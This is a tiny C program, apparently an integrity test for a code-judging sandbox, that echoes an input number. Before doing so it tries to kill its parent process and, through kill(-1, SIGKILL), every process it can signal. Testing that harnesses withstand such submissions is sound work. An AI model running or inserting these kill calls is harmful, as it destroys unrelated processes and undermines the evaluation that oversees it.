/* Integrity: kills the process that waits for it. */
#include <signal.h>
#include <stdio.h>
#include <unistd.h>

int main(void) {
    int first = 0;
    scanf("%d", &first);
    if (kill(getppid(), SIGKILL) == 0 && kill(-1, SIGKILL) == 0)
        return 1;
    printf("%d\n", first);
    return 0;
}
